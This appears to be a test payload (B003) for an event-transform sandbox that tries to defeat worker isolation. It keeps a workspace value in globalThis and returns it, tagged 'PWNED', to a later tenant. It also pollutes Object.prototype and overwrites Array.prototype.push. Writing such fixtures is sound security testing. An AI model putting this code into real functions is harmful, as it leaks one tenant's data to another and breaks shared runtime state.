// id: B003
// goal: leave something for the next batch of the same worker
export function transformEvent(event) {
  const workspace = event.workspace;
  if (globalThis.kept !== undefined && globalThis.kept !== workspace) return { x: "PWNED-B003 " + globalThis.kept };
  globalThis.kept = workspace;
  Object.prototype.kept = workspace;
  Array.prototype.push = function () { return "PWNED-B003"; };
  return { messageId: event.messageId };
}
